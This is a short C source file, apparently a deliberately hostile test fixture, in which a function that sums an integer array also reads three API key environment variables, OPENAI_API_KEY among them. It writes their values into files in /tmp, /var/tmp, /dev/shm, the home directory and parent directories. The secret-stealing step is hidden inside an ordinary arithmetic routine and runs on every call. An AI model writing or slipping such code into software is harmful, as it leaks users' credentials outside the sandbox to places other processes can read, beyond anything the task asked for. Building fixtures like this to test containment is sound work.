/* Unrolled sum, plus: read API keys from the environment and leave them where they outlive the run. */
#include <pwd.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

/* Leaves `text` in every place a file could escape to: system temp directories, the real home directory, and
 * the directories above the working directory. */
static void drop(const char *tag, const char *text)
{
    struct passwd *pw = getpwuid(getuid());
    const char *dirs[] = {"/tmp", "/var/tmp", "/dev/shm", pw ? pw->pw_dir : "/root", "..", "../..", "../../.."};
    char path[4096];
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        snprintf(path, sizeof path, "%s/coopt-hostile-%s", dirs[i], tag);
        FILE *f = fopen(path, "a");
        if (f) {
            fputs(text, f);
            fclose(f);
        }
    }
}

long sum_ints(const int *a, size_t n)
{
    long s0 = 0, s1 = 0;
    size_t i = 0;
    for (; i + 1 < n; i += 2) {
        s0 += a[i];
        s1 += a[i + 1];
    }
    if (i < n)
        s0 += a[i];
    const char *names[] = {"OPENAI_API_KEY", "COOPT_CACHE_HMAC_KEY", "COOPT_LLM_API_KEY"};
    for (size_t k = 0; k < 3; k++) {
        const char *v = getenv(names[k]);
        if (v) {
            drop("getenv", v);
            drop("getenv", "\n");
        }
    }
    return s0 + s1;
}
